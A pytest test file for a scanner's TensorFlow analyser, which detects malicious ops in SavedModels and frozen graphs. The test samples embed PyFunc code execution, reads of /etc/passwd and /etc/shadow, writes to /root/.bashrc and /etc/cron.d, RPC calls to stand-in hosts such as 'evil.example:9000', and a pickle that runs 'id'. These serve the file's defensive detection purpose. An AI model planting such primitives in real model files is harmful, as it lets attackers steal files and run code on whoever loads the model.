"""The TensorFlow analyser: SavedModels and frozen graphs built byte by byte (TensorFlow is not installed).

The benign samples follow what TensorFlow writes (``protobuf_samples``): a TF2 Keras-like SavedModel whose saver
functions hold SaveV2/RestoreV2/MergeV2Checkpoints, a TF1 Estimator export with its ``save/`` scope, a frozen
graph. The malicious ones put the TensorAbuse primitives where they run with the model.
"""

from __future__ import annotations

import io
import pickle
import random
import time
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from protobuf_samples import (
    FakeReport,
    av_func,
    av_list_s,
    av_s,
    blob_of,
    call,
    const,
    fld,
    frozen_graph,
    function,
    graph,
    keras_like_saved_model,
    meta_graph,
    msg,
    node,
    saved_model,
    serving_call,
    tf1_estimator_saved_model,
    tf1_saver_nodes,
    traced_save,
)

from bastion.config import Settings
from bastion.findings import Severity
from bastion.scan.check import CheckOutcome, Target
from bastion.supplychain import ModelFileCheck
from bastion.supplychain.formats import _tensorflow_impl, onnx, tensorflow

TF_SAMPLES = Path("modelaudit-assets/samples/tensorflow")
CALL = "__inference___call___32"
FUZZ = settings(max_examples=300, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def _examine(path: Path) -> CheckOutcome:
    check = ModelFileCheck(analyzers=(tensorflow.ANALYZER, onnx.ANALYZER))
    return check.examine(Target(str(path), path, path.stat().st_size), Settings())


def _write(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> Path:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _analyse(data: bytes, name: str = "model.pb") -> FakeReport:
    report = FakeReport()
    blob = blob_of(data, name)
    assert tensorflow.ANALYZER.sniff(blob)
    tensorflow.ANALYZER.analyse(blob, report)
    return report


def _serving(*extra: bytes) -> FakeReport:
    """The Keras-like SavedModel with ``extra`` nodes in its forward function."""
    return _analyse(keras_like_saved_model(call_extra=extra))


def _medium_plus(report: FakeReport) -> list[str]:
    return report.rules(Severity.MEDIUM)


# ---- the shared fixtures ----
def test_shared_pyfunc_savedmodel_is_critical(shared_models: Path) -> None:
    # 35 bytes: SavedModel{meta_graphs{graph_def{node{Const}, node{name "bad" op "PyFunc"}}}}: a valid protobuf
    # SavedModel (no schema version, tags or saver; the PyFunc has no token), so it is recognised and reported.
    outcome = _examine(shared_models / TF_SAMPLES / "malicious_pyfunc" / "saved_model.pb")
    assert outcome.kind == "tensorflow-savedmodel" and not outcome.incomplete
    [finding] = outcome.findings
    assert finding.rule_id == "BST-TF-001" and finding.severity is Severity.CRITICAL
    assert "PyFunc" in finding.title and "'bad'" in finding.title and "no token" in finding.evidence


def test_shared_safe_savedmodel_is_clean_and_complete(shared_models: Path) -> None:
    # 20 bytes: the same structure with one Const node. Valid, so a clean and complete result is honest.
    outcome = _examine(shared_models / TF_SAMPLES / "safe_savedmodel" / "saved_model.pb")
    assert outcome.kind == "tensorflow-savedmodel"
    assert outcome.findings == [] and outcome.incomplete == []
    assert outcome.facts["tf.ops"] == 1


# ---- benign models give nothing at medium or above ----
def test_keras_like_savedmodel_with_saver_is_clean(tmp_path: Path) -> None:
    outcome = _examine(_write(tmp_path, keras_like_saved_model()))
    assert outcome.findings == [] and outcome.incomplete == []
    facts = outcome.facts
    assert facts["format"] == "tensorflow-savedmodel" and facts["framework"] == "tensorflow"
    assert facts["tf.tags"] == ["serve"] and facts["tf.version"] == "2.15.0"
    assert facts["tf.signatures"] == ["__saved_model_init_op", "serving_default"]
    assert facts["tf.functions"] == 4 and facts["tf.ops"] == 35 and facts["tf.schema_version"] == 1


def test_tf1_estimator_savedmodel_with_save_scope_is_clean() -> None:
    report = _analyse(tf1_estimator_saved_model())
    assert report.findings == [] and report.incomplete == []
    assert report.facts["tf.version"] == "1.15.5"


def test_frozen_graph_is_clean_and_counts_its_weights() -> None:
    report = _analyse(frozen_graph())
    assert report.findings == []
    assert report.facts["format"] == "tensorflow-graphdef"
    assert report.facts["parameters"] == 784 * 128 + 128 and report.facts["tensors"] == 2
    assert report.facts["dtype"] == "float32"


def test_full_graph_with_an_unused_saver_scope_is_clean() -> None:
    # tf.train.write_graph of a TF1 graph keeps the saver's nodes; nothing outside save/ consumes them.
    assert _analyse(frozen_graph(tf1_saver_nodes())).findings == []
    assert _analyse(frozen_graph(tf1_saver_nodes("save_1"))).findings == []


# ---- the primitives, in the serving function ----
def test_pyfunc_is_critical_with_its_token_node_and_function() -> None:
    report = _serving(node("py", "EagerPyFunc", ["x"], {"token": av_s("pyfunc_7")}))
    [finding] = report.findings
    assert finding.rule_id == "BST-TF-001" and finding.severity is Severity.CRITICAL
    assert finding.title == f"TensorFlow op EagerPyFunc runs Python code (node 'py' in function '{CALL}')"
    assert "token 'pyfunc_7'" in finding.evidence and finding.offset is not None


@pytest.mark.parametrize(("extra", "op", "evidence"), [
    ([const("p", "/etc/passwd"), node("r", "ReadFile", ["p:output:0"])], "ReadFile", "path '/etc/passwd'"),
    ([const("p", "/root/.bashrc"), node("w", "WriteFile", ["p:output:0", "x"])], "WriteFile", "'/root/.bashrc'"),
    ([node("m", "MatchingFiles", ["x"])], "MatchingFiles", "function argument 'x'"),
    ([node("i", "ImmutableConst", attrs={"memory_region_name": av_s("/etc/passwd")})], "ImmutableConst",
     "memory_region_name '/etc/passwd'"),
    ([node("p", "PrintV2", ["x"], {"output_stream": av_s("file:///tmp/leak")})], "PrintV2", "file:///tmp/leak"),
    ([node("d", "DebugIdentityV3", ["x"], {"debug_urls": av_list_s(["file:///tmp/dump"])})], "DebugIdentityV3",
     "file:///tmp/dump"),
    ([const("f", "/etc/hosts"), node("ds", "TextLineDataset", ["f:output:0"])], "TextLineDataset", "/etc/hosts"),
    ([const("f", "/etc/hosts"), node("ds", "FixedLengthRecordDatasetV2", ["f:output:0"])],
     "FixedLengthRecordDatasetV2", "/etc/hosts"),
    ([node("t", "InitializeTableFromTextFileV2", ["x", "x"])], "InitializeTableFromTextFileV2", "argument 'x'"),
    ([node("dp", "DecodeProtoV2", ["x"], {"descriptor_source": av_s("/etc/passwd")})], "DecodeProtoV2",
     "'/etc/passwd'"),
    ([const("p", "/tmp/out"), node("s", "SaveV2", ["p:output:0", "x", "x", "x"])], "SaveV2", "'/tmp/out'"),
    ([const("p", "/tmp/ckpt"), node("r", "RestoreV2", ["p:output:0", "x", "x"])], "RestoreV2", "'/tmp/ckpt'"),
])
def test_file_access_in_serving_function_is_high(extra: list[bytes], op: str, evidence: str) -> None:
    report = _serving(*extra)
    [finding] = report.findings
    assert (finding.rule_id, finding.severity) == ("BST-TF-002", Severity.HIGH)
    assert f"op {op} reads or writes files" in finding.title and CALL in finding.title
    assert evidence in finding.evidence, finding.evidence


@pytest.mark.parametrize(("extra", "op", "evidence"), [
    ([const("a", "evil.example:9000"), node("c", "RpcClient", ["a:output:0", "x"])], "RpcClient",
     "'evil.example:9000'"),
    ([node("c", "RpcCall", ["x", "x", "x"])], "RpcCall", "RpcCall node 'c'"),
    ([const("a", "10.0.0.1:5050"), node("d", "DataServiceDatasetV4", ["x", "x", "a:output:0"])],
     "DataServiceDatasetV4", "'10.0.0.1:5050'"),
    ([node("d", "DebugIdentityV2", ["x"], {"debug_urls": av_list_s(["grpc://evil:6064"])})], "DebugIdentityV2",
     "grpc://evil:6064"),
])
def test_network_ops_are_high(extra: list[bytes], op: str, evidence: str) -> None:
    report = _serving(*extra)
    [finding] = report.findings
    assert (finding.rule_id, finding.severity) == ("BST-TF-003", Severity.HIGH)
    assert op in finding.title and evidence in finding.evidence, finding.evidence


def test_cluster_ops_are_medium() -> None:
    cross = {"send_device": av_s("/job:localhost/replica:0/task:0/device:CPU:0"),
             "recv_device": av_s("/job:worker/replica:0/task:3/device:CPU:0")}
    same = {"send_device": av_s("/job:localhost/replica:0/task:0/device:CPU:0"),
            "recv_device": av_s("/job:localhost/replica:0/task:0/device:GPU:0")}
    report = _serving(node("c", "CollectiveReduceV2", ["x", "x", "x", "x"]), node("s", "_Send", ["x"], cross),
                      node("local", "_Send", ["x"], same))
    assert sorted((f.rule_id, f.severity, f.title.split()[2]) for f in report.findings) == [
        ("BST-TF-004", Severity.MEDIUM, "CollectiveReduceV2"), ("BST-TF-004", Severity.MEDIUM, "_Send")]
    assert "task:3" in next(f.evidence for f in report.findings if "_Send" in f.title)


def test_benign_attribute_values_are_not_reported() -> None:
    report = _serving(node("p", "PrintV2", ["x"], {"output_stream": av_s("stderr")}),
                      node("d", "DebugIdentityV2", ["x"], {"debug_urls": av_list_s(["memcbk://x"])}),
                      node("dp", "DecodeProtoV2", ["x"], {"descriptor_source": av_s("local://")}),
                      node("n", "DebugIdentity", ["x"]))
    assert report.findings == []


def test_one_finding_per_op_and_graph_names_every_node() -> None:
    report = _serving(*[node(f"r{i}", "ReadFile", ["x"]) for i in range(7)])
    [finding] = report.findings
    assert "7 ReadFile nodes" in finding.detail and "'r0'" in finding.detail and "and 2 more" in finding.detail


def test_every_meta_graph_is_reported_separately() -> None:
    bad = graph([node("r", "ReadFile", ["x"])])
    data = saved_model(meta_graph(bad, tags=["serve"]), meta_graph(bad, tags=["serve", "gpu"]))
    report = _analyse(data, "saved_model.pb")
    assert [f.detail.split(" has ")[0] for f in report.findings] == [
        "Meta graph 0 (tags serve)", "Meta graph 1 (tags serve,gpu)"]
    assert report.facts["tf.tags"] == ["serve", "serve,gpu"] and report.facts["tf.meta_graphs"] == 2


def test_ops_in_branch_and_nested_functions_are_found() -> None:
    branch = function("__inference_cond_true_90", ["x"], [node("py", "PyFunc", ["x"], {"token": av_s("t")})])
    report = _analyse(keras_like_saved_model(
        call_extra=[node("if", "StatelessIf", ["x", "x"], {"then_branch": av_func("__inference_cond_true_90")})],
        functions=[branch]))
    [finding] = report.findings
    assert finding.rule_id == "BST-TF-001" and "__inference_cond_true_90" in finding.title


def test_graph_level_ops_are_found_in_frozen_graphs() -> None:
    report = _analyse(frozen_graph([const("p", "/etc/shadow"), node("leak", "ReadFile", ["p"])]))
    [finding] = report.findings
    assert finding.rule_id == "BST-TF-002" and "'/etc/shadow'" in finding.evidence and "function" not in finding.title


# ---- the saver exemption holds only while the saver stays apart ----
def test_checkpoint_ops_moved_into_serving_are_high() -> None:
    moved = [node("SaveV2", "SaveV2", ["x", "x", "x", "x"]), node("Merge", "MergeV2Checkpoints", ["x", "x"])]
    report = _serving(*moved)
    assert sorted(f.title.split()[2] for f in report.findings) == ["MergeV2Checkpoints", "SaveV2"]
    assert all(f.severity is Severity.HIGH for f in report.findings)


def test_saver_function_called_from_serving_loses_its_exemption() -> None:
    report = _serving(call("sneaky", "__inference__traced_save_64", ["x", "x", "x"]))
    titles = sorted(f.title for f in report.findings)
    assert [t.split()[2] for t in titles] == ["MergeV2Checkpoints", "SaveV2"]
    assert all("__inference__traced_save_64" in t for t in titles)


def test_saver_node_fetched_by_a_signature_loses_its_exemption() -> None:
    report = _analyse(keras_like_saved_model(signature_outputs={"out": "StatefulPartitionedCall:0"}))
    assert {f.title.split()[2] for f in report.findings} == {"SaveV2", "MergeV2Checkpoints", "RestoreV2"}


def test_saver_named_function_reached_only_from_serving_is_high() -> None:
    evil = traced_save("__inference__traced_save_999")
    report = _analyse(keras_like_saved_model(functions=[evil], call_extra=[
        call("c", "__inference__traced_save_999", ["x", "x", "x"], op="PartitionedCall")]))
    assert {f.title.split()[2] for f in report.findings} == {"SaveV2", "MergeV2Checkpoints"}


def test_file_ops_other_than_checkpoints_are_reported_inside_the_saver() -> None:
    save = function("__inference__traced_save_64", ["file_prefix"], [
        const("p", "/etc/passwd"), node("ReadFile", "ReadFile", ["p:output:0"]),
        node("SaveV2", "SaveV2", ["file_prefix", "x", "x", "x"])])
    report = _analyse(keras_like_saved_model(save=save))
    [finding] = report.findings
    assert finding.title.split()[2] == "ReadFile" and "__inference__traced_save_64" in finding.title


def test_checkpoint_ops_in_the_saver_with_a_path_of_their_own_are_high() -> None:
    # A saver function whose SaveV2 writes to a constant path, and one whose MergeV2Checkpoints deletes a
    # constant directory: the exemption covers only paths derived from the checkpoint path the loader feeds.
    save = function("__inference__traced_save_64", ["file_prefix", "x"], [
        const("p", "/etc/cron.d/job"), node("SaveV2", "SaveV2", ["p:output:0", "x", "x", "x"]),
        const("victim", "/home/user/data"),
        node("Merge", "MergeV2Checkpoints", ["victim:output:0", "file_prefix"]),
        node("Restore", "RestoreV2", ["file_prefix", "x", "x"])])
    report = _analyse(keras_like_saved_model(save=save))
    assert sorted(f.title.split()[2] for f in report.findings) == ["MergeV2Checkpoints", "SaveV2"]
    tf1 = tf1_estimator_saved_model([const("save/evil", "/tmp/x"), node("save/SaveV2_1", "SaveV2",
                                                                        ["save/evil", "x", "x", "x"])])
    [finding] = _analyse(tf1).findings
    assert "'save/SaveV2_1'" in finding.title and "'/tmp/x'" in finding.evidence


def test_tf1_save_scope_consumed_by_the_model_is_high() -> None:
    report = _analyse(tf1_estimator_saved_model([node("out", "Identity", ["MatMul", "^save/SaveV2"])],
                                                output="out:0"))
    assert "SaveV2" in {f.title.split()[2] for f in report.findings}
    assert set(report.rules()) == {"BST-TF-002"}


def test_checkpoint_op_outside_the_save_scope_is_high() -> None:
    report = _analyse(tf1_estimator_saved_model([const("p", "/tmp/x"), node("dump/SaveV2", "SaveV2", ["p"])]))
    [finding] = report.findings
    assert "'dump/SaveV2'" in finding.title and "'/tmp/x'" in finding.evidence


# ---- vocabulary tables read bundled assets ----
def test_table_from_asset_argument_is_not_reported() -> None:
    init = function("__inference__initializer_12", ["asset_path", "table"], [
        node("InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", ["table", "asset_path"])])
    report = _analyse(keras_like_saved_model(functions=[init], assets={"asset_path_initializer:0": "vocab.txt"}))
    assert report.findings == []


def test_table_from_a_constant_path_is_high_even_with_assets() -> None:
    init = function("__inference__initializer_12", ["table"], [
        const("p", "/etc/passwd"), node("init", "InitializeTableFromTextFileV2", ["table", "p:output:0"])])
    report = _analyse(keras_like_saved_model(functions=[init], assets={"asset_path_initializer:0": "vocab.txt"}))
    [finding] = report.findings
    assert finding.rule_id == "BST-TF-002" and "'/etc/passwd'" in finding.evidence


def test_tf1_table_from_asset_collection_is_not_reported() -> None:
    table = [const("vocab/Const", "assets/vocab.txt"), node("vocab/table", "HashTableV2"),
             node("vocab/init", "InitializeTableFromTextFileV2", ["vocab/table", "vocab/Const"])]
    graph_def = graph([*table, node("x", "Placeholder")], producer=27)
    data = saved_model(meta_graph(graph_def, collections={"asset_filepaths": ["vocab/Const:0"]},
                                  assets={"vocab/Const:0": "vocab.txt"}))
    assert _analyse(data).findings == []


# ---- recognition ----
def _onnx_model() -> bytes:
    import onnx.helper as oh
    from onnx import TensorProto

    graph_proto = oh.make_graph([oh.make_node("Relu", ["x"], ["y"])], "g",
                                [oh.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                                [oh.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    return bytes(oh.make_model(graph_proto).SerializeToString())


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("saved_model.pb", keras_like_saved_model())
    return buffer.getvalue()


OTHER_CONTENT: dict[str, bytes] = {
    "pickle": pickle.dumps({"a": 1}, protocol=4),
    "pickle0": b"cos\nsystem\n(S'id'\ntR.",
    "json": b'{"node": {"op": "PyFunc"}}',
    "zip": _zip(),
    "random": bytes(random.Random(1).randrange(256) for _ in range(4096)),
    "text": b"hello world\nnode {\n}\n",
    "newline": b"\n\x0c\n\x04name\x12\x04op op",
    "fingerprint.pb": msg(fld(1, 123456789), fld(2, 987654321), fld(3, 1), fld(4, 2), fld(5, 3)),
    "keras_metadata.pb": fld(1, msg(fld(1, 0), fld(2, "root"), fld(3, "_tf_keras_model"), fld(4, "{}"))),
}


@pytest.mark.parametrize("name", sorted(OTHER_CONTENT))
def test_other_content_is_not_tensorflow(name: str) -> None:
    assert not tensorflow.ANALYZER.sniff(blob_of(OTHER_CONTENT[name], "model.pb"))


def test_onnx_and_tensorflow_do_not_claim_each_other() -> None:
    model = _onnx_model()
    assert onnx.ANALYZER.sniff(blob_of(model, "model.onnx"))
    assert not tensorflow.ANALYZER.sniff(blob_of(model, "model.pb"))
    for sample in (keras_like_saved_model(), tf1_estimator_saved_model(), frozen_graph(),
                   saved_model(meta_graph(graph([node("a", "Const")])), schema=0)):
        assert tensorflow.ANALYZER.sniff(blob_of(sample))
        assert not onnx.ANALYZER.sniff(blob_of(sample, "model.onnx"))


def test_structure_not_name_decides() -> None:
    assert tensorflow.ANALYZER.sniff(blob_of(keras_like_saved_model(), "weights.bin"))
    assert tensorflow.classify(blob_of(frozen_graph(), "saved_model.pb")) == "graph-def"


# ---- malformed and partial content is never a silent pass ----
def test_garbage_named_saved_model_is_incomplete(tmp_path: Path) -> None:
    outcome = _examine(_write(tmp_path / "m", b"\x00\x01not a protobuf at all"))
    assert outcome.kind == "tensorflow" and outcome.findings == []
    assert any("named saved_model.pb" in why for why in outcome.incomplete)


def test_pickle_named_saved_model_is_still_examined_as_a_pickle(tmp_path: Path) -> None:
    outcome = _examine(_write(tmp_path / "m", b"cos\nsystem\n(S'id'\ntR."))
    assert any("named saved_model.pb" in why for why in outcome.incomplete)
    assert any(f.rule_id == "BST-PKL-001" and f.location.member == "<content>" for f in outcome.findings)


def test_onnx_named_saved_model_is_left_to_the_onnx_analyser() -> None:
    assert tensorflow.classify(blob_of(_onnx_model(), "saved_model.pb")) is None


def test_truncated_graph_keeps_findings_before_the_cut() -> None:
    nodes = [node("py", "PyFunc", ["x"]), *[node(f"n{i}", "Relu", ["x"]) for i in range(100)]]
    data = graph(nodes)
    report = _analyse(data[: len(data) - 30])
    assert report.rules() == ["BST-TF-001"]
    assert any("malformed TensorFlow GraphDef" in why for why in report.incomplete)


def test_malformed_message_is_incomplete_not_a_crash() -> None:
    broken = msg(fld(1, "p"), fld(2, "PrintV2"), fld(5, msg(fld(1, "output_stream"), fld(2, b"\x12\x7f"))))
    report = _analyse(keras_like_saved_model(call_extra=[broken]))
    assert any("malformed TensorFlow SavedModel" in why for why in report.incomplete)


def test_malformed_attribute_is_incomplete_and_other_nodes_still_reported() -> None:
    # output_stream's ``s`` written as a varint: the message parses, the attribute cannot be read.
    broken = msg(fld(1, "p"), fld(2, "PrintV2"), fld(5, msg(fld(1, "output_stream"), fld(2, fld(2, 5)))))
    report = _analyse(keras_like_saved_model(call_extra=[broken, node("r", "ReadFile", ["x"])]))
    assert any("malformed node attribute" in why and "'p'" in why for why in report.incomplete)
    assert report.rules() == ["BST-TF-002"]


def test_deadline_stops_the_walk_and_says_so() -> None:
    data = graph([node(f"n{i}", "Relu", ["x"]) for i in range(3000)])
    report = FakeReport(deadline=time.monotonic() - 1)
    tensorflow.ANALYZER.analyse(blob_of(data), report)
    assert any("time limit" in why for why in report.incomplete)


# ---- text format ----
TEXT_SAVED_MODEL = b"""saved_model_schema_version: 1
meta_graphs {
  graph_def {
    node {
      name: "x"
      op: "Placeholder"
    }
    node {
      name: "evil"
      op: "PyFunc"
      input: "x"
    }
    node {
      name: "save/SaveV2"
      op: "SaveV2"
    }
  }
}
"""


def test_text_savedmodel_is_searched_and_marked_incomplete() -> None:
    report = _analyse(TEXT_SAVED_MODEL, "saved_model.pbtxt")
    assert report.rules() == ["BST-TF-001"] and "'evil'" in report.findings[0].title
    assert report.facts["format"] == "tensorflow-savedmodel-text" and report.incomplete


def test_text_graph_without_primitives_is_still_incomplete() -> None:
    report = _analyse(b'node {\n  name: "a"\n  op: "Relu"\n}\n', "graph.pbtxt")
    assert report.findings == [] and report.incomplete and report.facts["format"] == "tensorflow-graphdef-text"


# ---- fuzzing: never raise ----
def _never_raises(data: bytes, name: str = "model.pb") -> None:
    """Sniff and analyse, and also drive both binary parsers over content the sniffer would refuse."""
    blob = blob_of(data, name)
    if tensorflow.ANALYZER.sniff(blob):
        tensorflow.ANALYZER.analyse(blob, FakeReport())
    for kind in ("saved-model", "graph-def"):
        _tensorflow_impl._analyse_binary(blob, FakeReport(), kind)


@FUZZ
@given(st.binary(max_size=2048))
def test_fuzz_random_bytes(data: bytes) -> None:
    _never_raises(data)
    _never_raises(b"\x0a" + data)
    _never_raises(data, "saved_model.pb")


SEEDS: Sequence[bytes] = (
    keras_like_saved_model(call_extra=[const("p", "/etc/passwd"), node("r", "ReadFile", ["p:output:0"])]),
    tf1_estimator_saved_model(),
    frozen_graph([node("py", "PyFunc", ["x"], {"token": av_s("t")})]),
    serving_call(),
)


@FUZZ
@given(st.sampled_from(SEEDS), st.lists(st.tuples(st.integers(0, 1 << 20), st.integers(0, 255)), max_size=8),
       st.integers(0, 1 << 20))
def test_fuzz_mutated_samples(seed: bytes, flips: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(seed)
    for at, value in flips:
        data[at % len(data)] = value
    _never_raises(bytes(data))
    _never_raises(bytes(data[: cut % (len(data) + 1)]), "saved_model.pb")
